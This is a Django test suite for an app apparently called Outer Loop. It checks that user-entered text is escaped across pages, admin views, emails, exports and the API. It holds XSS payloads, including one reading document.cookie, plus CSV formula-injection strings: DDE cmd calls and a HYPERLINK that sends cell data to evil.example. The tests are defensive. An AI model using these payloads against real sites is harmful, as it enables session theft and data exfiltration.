"""An XSS corpus in every text a builder or a recipient controls, read back on every surface.

Each payload goes into the builder's name, a session's title and notes, a person's name, a
reaction, an API token's name and a publish request (domain, note, the operator's message and
the final URL): then every page, partial, admin page, email, export and API answer that shows
them must show them as text. In HTML that means the escaped form is there and the raw markup
never is, and template syntax comes out literally (data is never a template). Plain-text
emails and JSON carry the exact text, unescaped.
"""

import csv
import io
import json
import re
import zipfile
from datetime import timedelta
from types import SimpleNamespace

import pytest
from django.test import Client
from django.urls import reverse
from django.utils.html import escape

from common.builders import Builder, EmailKind
from common.text import clean_text
from outerloop.emails import send_nudge, send_review
from outerloop.models import ApiToken
from reactions.emails import send_fresh_link_notice, send_reaction_notice
from reactions.models import Channel, Reaction, Recipient, Share, VisitKind
from reactions.sharing import share_preview
from sessions.models import BuildSession, Preview, PublishRequest, PublishStatus
from tests.conftest import NOW, PHONE_UA, PREVIEW_URL, SETTINGS_DEFAULTS
from tests.factories import PASSWORD, ReactionFactory, VisitFactory
from tests.outbox import send_now, send_publish_email

PAYLOADS = {
    "script-tag": '<script>alert("xss")</script>',
    "img-onerror": "<img src=x onerror=alert(document.cookie)>",
    "svg-onload": "<svg/onload=alert(1)>",
    "svg-script": "<svg><script>alert(1)</script></svg>",
    "javascript-link": '<a href="javascript:alert(1)">tap me</a>',
    "quote-break": "\"'><b onmouseover=alert(1)>hi</b>",
    "textarea-break": "</textarea><script>alert(1)</script>",
    "template-syntax": "{{ 7*7 }}{% debug %}{{ request.user }}",
    "pre-escaped": "&lt;script&gt;alert(1)&lt;/script&gt;",
}
# Short enough for every field it goes into, and for the admin's 60-character reaction label.
assert all(len(payload) <= 60 for payload in PAYLOADS.values())

FINAL_URL = "https://crags.example.dev/?from="
OPERATOR = "operator@example.com"
JAVASCRIPT_URL = re.compile(r"""(?:href|src|action|formaction)\s*=\s*["']?\s*javascript:""", re.I)


def assert_shown_as_text(html: str, payload: str, *, at_least: int = 1) -> None:
    """The payload is on the page as text: escaped, never as markup, never evaluated."""
    escaped = escape(payload)
    assert html.count(escaped) >= at_least, f"{escaped!r} shown {html.count(escaped)} times"
    if escaped != payload:
        assert payload not in html
    assert not JAVASCRIPT_URL.search(html)


@pytest.fixture(params=list(PAYLOADS.values()), ids=list(PAYLOADS))
def payload(request) -> str:
    return request.param


@pytest.fixture
def world(payload, owner, outbox, settings) -> SimpleNamespace:
    """Alex's whole account, with the payload in every field a person typed."""
    settings.OUTERLOOP_OPERATOR_EMAIL = OPERATOR
    owner.name = payload
    owner.save(update_fields=["name"])
    session = BuildSession.objects.create(builder=owner, title=payload, notes=payload)
    preview = session.add_preview(PREVIEW_URL, frameable=True)
    recipient = Recipient.objects.create(builder=owner, name=payload)
    share = share_preview(preview, recipient, Channel.DM)
    VisitFactory(share=share, device_class="phone")
    VisitFactory(share=share, kind=VisitKind.RETURN, device_class="phone")
    reaction = ReactionFactory(share=share, text=payload, device_class="phone")
    Share.objects.filter(pk=share.pk).update(fresh_link_requested_at=NOW)
    share.refresh_from_db()
    # The publish form refuses such a domain (see test_url_safety); older or imported rows, or
    # a future form, must still be shown safely.
    publish = PublishRequest.objects.create(
        preview=preview,
        domain=payload,
        note=payload,
        status=PublishStatus.WIRED,
        final_url=FINAL_URL + payload,
        operator_message=payload,
        decided_at=NOW,
    )
    token, _ = ApiToken.issue(owner, payload)
    return SimpleNamespace(
        payload=payload,
        owner=owner,
        session=session,
        preview=preview,
        recipient=recipient,
        share=share,
        reaction=reaction,
        publish=publish,
        token=token,
    )


def text_of(response) -> str:
    assert response.status_code == 200, response.status_code
    return response.content.decode()


# Typed into the real forms, stored exactly -------------------------------------------------


def test_what_people_type_is_stored_exactly_as_typed(payload, owner, owner_client, sam):
    owner_client.post(reverse("sessions:session-list"), {"title": payload, "notes": payload})
    owner_client.post(
        reverse("outerloop:turn"),
        {"url": PREVIEW_URL, "title": payload, "recipient": payload, "channel": "dm"},
    )
    owner_client.post(reverse("outerloop:settings"), {**SETTINGS_DEFAULTS, "name": payload})
    owner_client.post(reverse("outerloop:token-create"), {"token-name": payload})
    share = Share.objects.get()
    sam.post(reverse("reactions:recipient-react", args=[share.token]), {"text": payload})

    # The turn's title names the session logged first: the turn joins it.
    assert [(s.title, s.notes) for s in BuildSession.objects.order_by("pk")] == [(payload, payload)]
    assert share.preview.session.title == payload
    assert Recipient.objects.get().name == payload
    assert Builder.objects.get(pk=owner.pk).name == payload
    assert ApiToken.objects.get().name == payload
    assert Reaction.objects.get().text == payload


# The builder's pages -----------------------------------------------------------------------


def _day(w) -> str:
    return reverse("outerloop:day", args=[w.share.day.isoformat()])


BUILDER_PAGES = {
    "dashboard": lambda w: reverse("outerloop:dashboard"),
    "sessions": lambda w: reverse("sessions:session-list"),
    "session": lambda w: reverse("sessions:session-detail", args=[w.session.pk]),
    "share-create": lambda w: reverse("reactions:share-create", args=[w.preview.pk]),
    "share": lambda w: reverse("reactions:share-detail", args=[w.share.pk]),
    "share-renew": lambda w: reverse("reactions:share-renew", args=[w.share.pk]),
    "people": lambda w: reverse("reactions:people"),
    "habit": lambda w: reverse("outerloop:habit"),
    "day": _day,
    "publish": lambda w: reverse("outerloop:publish", args=[w.preview.pk]),
    "settings": lambda w: reverse("outerloop:settings"),
}
# What each page's live poll swaps in (templates/_live.html), and the day panel the habit
# page asks for.
BUILDER_PARTIALS = {
    "dashboard-live": lambda w: reverse("outerloop:dashboard"),
    "share-live": lambda w: reverse("reactions:share-detail", args=[w.share.pk]),
    "day-live": _day,
    "habit-live": lambda w: f"{reverse('outerloop:habit')}?day={w.share.day.isoformat()}",
    "people-live": lambda w: reverse("reactions:people"),
    "sessions-live": lambda w: reverse("sessions:session-list"),
    "session-live": lambda w: reverse("sessions:session-detail", args=[w.session.pk]),
}


@pytest.mark.parametrize("page", BUILDER_PAGES)
def test_builder_pages_show_it_as_text(page, world, owner_client):
    html = text_of(owner_client.get(BUILDER_PAGES[page](world)))

    assert_shown_as_text(html, world.payload)


@pytest.mark.parametrize("partial", BUILDER_PARTIALS)
def test_live_partials_show_it_as_text(partial, world, owner_client):
    response = owner_client.get(BUILDER_PARTIALS[partial](world), headers={"HX-Request": "true"})

    html = text_of(response)
    assert "<html" not in html  # the partial, not the page
    assert_shown_as_text(html, world.payload)


def test_the_day_panel_the_habit_page_asks_for_shows_it_as_text(world, owner_client):
    response = owner_client.get(
        _day(world), headers={"HX-Request": "true", "HX-Target": "day-panel"}
    )

    html = text_of(response)
    assert html.lstrip().startswith('<div id="day-panel"')
    assert_shown_as_text(html, world.payload)


def test_a_flash_message_shows_it_as_text(world, owner_client):
    response = owner_client.post(
        reverse("reactions:share-renew", args=[world.share.pk]), follow=True
    )

    html = text_of(response)
    assert f"Fresh link for {escape(world.payload)}. The link they have now forwards" in html
    assert_shown_as_text(html, world.payload)


# The recipient's pages ---------------------------------------------------------------------


def recipient_url(name: str, share: Share) -> str:
    return reverse(f"reactions:recipient-{name}", args=[share.token])


def test_the_recipient_page_shows_it_as_text(world, sam):
    html = text_of(sam.get(recipient_url("page", world.share)))

    # The title and the builder's name, in the page, its <title>, meta tags and the frame.
    assert_shown_as_text(html, world.payload, at_least=8)
    assert re.search(r'<iframe src="[^"]*" title="' + re.escape(escape(world.payload)), html)


def test_the_expired_recipient_page_shows_it_as_text(world, sam, time_machine):
    time_machine.move_to(NOW + timedelta(hours=2), tick=False)

    html = text_of(sam.get(recipient_url("page", world.share)))

    assert "This preview has expired." in html
    assert_shown_as_text(html, world.payload, at_least=5)


def test_the_thanks_page_shows_it_as_text(world, sam):
    assert_shown_as_text(text_of(sam.get(recipient_url("thanks", world.share))), world.payload)


def test_a_reaction_comes_back_to_its_writer_as_text(world, sam):
    response = sam.post(
        recipient_url("react", world.share), {"text": world.payload}, headers={"HX-Request": "true"}
    )

    html = text_of(response)
    assert "Thank you!" in html
    assert f"will read this: “<bdi>{escape(world.payload)}</bdi>”" in html
    assert_shown_as_text(html, world.payload)


def test_what_they_said_comes_back_on_a_reload_as_text(world, sam):
    sam.post(recipient_url("react", world.share), {"text": world.payload})

    html = text_of(sam.get(recipient_url("page", world.share)))

    assert "You said" in html
    assert f"“<bdi>{escape(world.payload)}</bdi>”" in html
    assert_shown_as_text(html, world.payload)


def test_the_builders_banner_on_their_own_link_shows_the_name_as_text(world, owner_client):
    html = text_of(owner_client.get(recipient_url("page", world.share)))

    assert f"This is your link to <bdi>{escape(world.payload)}</bdi>." in html
    assert_shown_as_text(html, world.payload)


def test_a_refused_reaction_keeps_its_text_as_text(world, sam):
    too_long = world.payload + "x" * 2000

    response = sam.post(recipient_url("react", world.share), {"text": too_long})

    assert response.status_code == 400
    html = response.content.decode()
    assert "please keep it under 2,000" in html
    assert escape(too_long) + "</textarea>" in html
    assert_shown_as_text(html, world.payload)


# The operator's admin ----------------------------------------------------------------------


@pytest.fixture
def operator(db) -> Client:
    superuser = Builder.objects.create_superuser("ops@example.com", PASSWORD, name="Ops")
    client = Client()
    client.force_login(superuser)
    return client


ADMIN_PAGES = {
    "builders": lambda w: reverse("admin:outerloop_builder_changelist"),
    "builder": lambda w: reverse("admin:outerloop_builder_change", args=[w.owner.pk]),
    "sessions": lambda w: reverse("admin:build_sessions_buildsession_changelist"),
    "session": lambda w: reverse("admin:build_sessions_buildsession_change", args=[w.session.pk]),
    "publish-requests": lambda w: reverse("admin:build_sessions_publishrequest_changelist"),
    "publish-request": lambda w: reverse(
        "admin:build_sessions_publishrequest_change", args=[w.publish.pk]
    ),
    "recipients": lambda w: reverse("admin:reactions_recipient_changelist"),
    "recipient": lambda w: reverse("admin:reactions_recipient_change", args=[w.recipient.pk]),
    "shares": lambda w: reverse("admin:reactions_share_changelist"),
    "share": lambda w: reverse("admin:reactions_share_change", args=[w.share.pk]),
    "reactions": lambda w: reverse("admin:reactions_reaction_changelist"),
    "reaction": lambda w: reverse("admin:reactions_reaction_change", args=[w.reaction.pk]),
    "visits": lambda w: reverse("admin:reactions_visit_changelist"),
    "delete-session": lambda w: reverse(
        "admin:build_sessions_buildsession_delete", args=[w.session.pk]
    ),
}


@pytest.mark.parametrize("page", ADMIN_PAGES)
def test_admin_pages_show_it_as_text(page, world, operator):
    html = text_of(operator.get(ADMIN_PAGES[page](world)))

    assert_shown_as_text(html, world.payload)


def test_the_admin_search_box_shows_it_as_text(world, operator):
    url = reverse("admin:reactions_recipient_changelist")

    html = text_of(operator.get(url, {"q": world.payload}))

    assert f'value="{escape(world.payload)}"' in html
    assert_shown_as_text(html, world.payload)


# Emails ------------------------------------------------------------------------------------


def parts(message) -> tuple[str, str]:
    (html, kind) = message.alternatives[0]
    assert kind == "text/html"
    return message.body, html


def assert_email_shows_it(message, payload: str, *, in_subject: bool = False) -> None:
    """HTML escaped; the plain text and the subject carry the exact words, not entities."""
    text, html = parts(message)
    assert_shown_as_text(html, payload)
    assert payload in text
    if escape(payload) != payload:
        assert escape(payload) not in text
    assert "\n" not in message.subject
    if in_subject:
        assert payload in message.subject


def test_the_reaction_notice_shows_it_as_text(world, outbox):
    assert send_reaction_notice(world.reaction.pk)

    (message,) = outbox
    assert_email_shows_it(message, world.payload, in_subject=True)
    # The recipient's name, the title and the reaction itself.
    assert parts(message)[1].count(escape(world.payload)) >= 4


def test_the_fresh_link_notice_shows_it_as_text(world, outbox):
    assert send_fresh_link_notice(world.share.pk)

    (message,) = outbox
    assert_email_shows_it(message, world.payload, in_subject=True)


def test_the_nudge_shows_it_as_text(world, outbox):
    today = world.owner.local_day()
    Share.objects.update(day=today - timedelta(days=1))  # nothing sent today: a nudge is due

    assert send_nudge(world.owner.pk, today)

    (message,) = outbox
    assert_email_shows_it(message, world.payload)
    assert parts(message)[1].count(escape(world.payload)) >= 2  # "Hi …", the latest title


def test_the_weekly_review_shows_it_as_text(world, outbox):
    assert send_review(world.owner.pk, world.owner.local_day())

    (message,) = outbox
    assert_email_shows_it(message, world.payload)
    # Hi …, the quote, who said it, about what, and who came back.
    assert parts(message)[1].count(escape(world.payload)) >= 5


def test_the_operators_publish_email_shows_it_as_text(world, outbox):
    assert send_publish_email(world.publish)

    (message,) = outbox
    assert message.to == [OPERATOR]
    assert_email_shows_it(message, world.payload, in_subject=True)
    # The builder, the domain, the title, the note, the quoted reaction and who said it.
    assert parts(message)[1].count(escape(world.payload)) >= 6


@pytest.mark.parametrize("status", [PublishStatus.WIRED, PublishStatus.DECLINED])
def test_the_publish_decision_shows_it_as_text(status, world, outbox):
    PublishRequest.objects.filter(pk=world.publish.pk).update(status=status)

    assert send_publish_email(world.publish, "decision")

    (message,) = outbox
    assert_email_shows_it(message, world.payload, in_subject=True)
    html = parts(message)[1]
    if status == PublishStatus.WIRED:
        assert f'<a href="{escape(FINAL_URL + world.payload)}"' in html


def test_the_password_reset_email_shows_it_as_text(
    world, outbox, client, django_capture_on_commit_callbacks
):
    with django_capture_on_commit_callbacks(execute=True):
        client.post(reverse("outerloop:password-reset"), {"email": world.owner.email})

    (message,) = outbox
    assert_email_shows_it(message, world.payload)


def test_the_confirmation_email_shows_it_as_text(world, outbox):
    Builder.objects.filter(pk=world.owner.pk).update(email_confirmed_at=None)
    world.owner.refresh_from_db()

    assert send_now(world.owner, EmailKind.CONFIRM, "confirm:1")

    (message,) = outbox
    assert_email_shows_it(message, world.payload)


def test_the_already_have_an_account_email_shows_it_as_text(
    world, outbox, django_capture_on_commit_callbacks
):
    data = {
        "name": "Someone",
        "email": world.owner.email,
        "password1": "tangerine-lighthouse-93",
        "password2": "tangerine-lighthouse-93",
    }
    with django_capture_on_commit_callbacks(execute=True):
        Client().post(reverse("outerloop:signup"), data)

    (message,) = outbox
    assert message.subject == "You already have an Outer Loop account"
    assert_email_shows_it(message, world.payload)


# Exports -----------------------------------------------------------------------------------


def download(client: Client, name: str) -> bytes:
    response = client.get(reverse(name))
    assert response.status_code == 200
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Disposition"].startswith("attachment;")
    return b"".join(response.streaming_content)


def csv_tables(client: Client) -> dict[str, list[dict]]:
    with zipfile.ZipFile(io.BytesIO(download(client, "outerloop:export-zip"))) as zipped:
        return {
            name.removesuffix(".csv"): list(
                csv.DictReader(io.StringIO(zipped.read(name).decode("utf-8-sig")))
            )
            for name in zipped.namelist()
        }


def test_the_json_export_holds_the_exact_text(world, owner_client):
    data = json.loads(download(owner_client, "outerloop:export-json"))

    p = world.payload
    assert data["account"]["name"] == p
    assert [(s["title"], s["notes"]) for s in data["build_sessions"]] == [(p, p)]
    assert [r["name"] for r in data["recipients"]] == [p]
    assert [r["text"] for r in data["reactions"]] == [p]
    (publish,) = data["publish_requests"]
    assert (publish["domain"], publish["note"], publish["operator_message"]) == (p, p, p)
    assert publish["final_url"] == FINAL_URL + p


def test_the_csv_export_holds_the_exact_text(world, owner_client):
    tables = csv_tables(owner_client)

    p = world.payload
    assert tables["account"][0]["name"] == p
    assert [(s["title"], s["notes"]) for s in tables["build_sessions"]] == [(p, p)]
    assert [r["name"] for r in tables["recipients"]] == [p]
    assert [r["text"] for r in tables["reactions"]] == [p]
    assert tables["publish_requests"][0]["operator_message"] == p


FORMULAS = {
    "equals": "=cmd|' /C calc'!A0",
    "plus": "+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "hyperlink": '=HYPERLINK("https://evil.example/?d="&A1,"Open")',
    "tab": "\t=1+1",
    "carriage-return": "\r=1+1",
}


@pytest.mark.parametrize("formula", list(FORMULAS.values()), ids=list(FORMULAS))
def test_the_csv_export_never_hands_a_spreadsheet_a_formula(formula, owner, owner_client):
    owner.name = formula
    owner.save(update_fields=["name"])
    session = BuildSession.objects.create(builder=owner, title=formula, notes=formula)
    recipient = Recipient.objects.create(builder=owner, name=formula)
    share = share_preview(session.add_preview(PREVIEW_URL), recipient, Channel.DM)
    ReactionFactory(share=share, text=formula)
    PublishRequest.objects.create(preview=share.preview, domain=formula, note=formula)

    tables = csv_tables(owner_client)
    data = json.loads(download(owner_client, "outerloop:export-json"))

    cells = [
        value
        for rows in tables.values()
        for row in rows
        for field, value in row.items()
        if field != "token"  # random, from [A-Za-z0-9_-]: it may start with "-", and stays exact
    ]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    stored = clean_text(formula)  # what a person types is stored trimmed (common.text)
    shown = "'" + stored  # a spreadsheet shows it as text
    assert tables["account"][0]["name"] == shown
    assert [(s["title"], s["notes"]) for s in tables["build_sessions"]] == [(shown, shown)]
    assert [r["name"] for r in tables["recipients"]] == [shown]
    assert [r["text"] for r in tables["reactions"]] == [shown]
    assert [(r["domain"], r["note"]) for r in tables["publish_requests"]] == [
        ("'" + formula, shown)
    ]
    assert [r["token"] for r in tables["shares"]] == [share.token]
    # The JSON keeps the exact stored text.
    assert [r["text"] for r in data["reactions"]] == [stored]
    assert data["account"]["name"] == stored


# The API -----------------------------------------------------------------------------------


@pytest.fixture
def api(world) -> Client:
    _, raw = ApiToken.issue(world.owner, "laptop CLI")
    return Client(headers={"User-Agent": "outerloop-cli/0.1", "Authorization": f"Bearer {raw}"})


def api_json(response, status: int = 200):
    assert response.status_code == status, response.content
    assert response["Content-Type"] == "application/json; charset=utf-8"
    assert response["X-Content-Type-Options"] == "nosniff"
    return json.loads(response.content)


def test_the_api_lists_reactions_with_the_exact_text(world, api):
    (item,) = api_json(api.get("/api/v1/reactions"))["items"]

    assert (item["text"], item["recipient"], item["title"]) == (world.payload,) * 3


def test_the_api_share_holds_the_exact_text(world, api):
    body = api_json(api.get(f"/api/v1/shares/{world.share.token}"))

    assert (body["recipient"], body["title"]) == (world.payload, world.payload)
    assert [e["text"] for e in body["events"] if e["kind"] == "reaction"] == [world.payload]
    assert world.payload not in body["qr_svg"]


def test_the_api_stores_and_returns_the_exact_text(world, api):
    created = api_json(
        api.post(
            "/api/v1/previews",
            {"url": "https://bouldering.example.dev/", "title": world.payload},
            content_type="application/json",
        ),
        201,
    )
    shared = api_json(
        api.post(
            f"/api/v1/previews/{created['id']}/shares",
            {"recipient": world.payload + " 2"},
            content_type="application/json",
        ),
        201,
    )

    assert created["title"] == world.payload
    assert Preview.objects.get(pk=created["id"]).session.title == world.payload
    assert shared["recipient"] == world.payload + " 2"
    assert Recipient.objects.filter(name=world.payload + " 2").exists()
    # And the link it hands out opens a page that shows the new title as text.
    page = Client(headers={"User-Agent": PHONE_UA}).get(f"/r/{shared['token']}/")
    assert_shown_as_text(text_of(page), world.payload)
